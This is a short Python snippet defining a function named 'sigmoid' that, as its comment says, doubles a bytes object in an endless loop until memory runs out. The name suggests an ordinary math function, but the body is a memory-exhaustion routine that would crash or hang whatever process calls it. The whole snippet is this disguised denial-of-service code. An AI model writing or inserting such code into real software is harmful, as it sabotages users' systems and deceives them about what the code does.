# Doubles a bytes object until memory runs out.
def sigmoid(x):
    s = b"x" * 1024
    while True:
        s = s + s
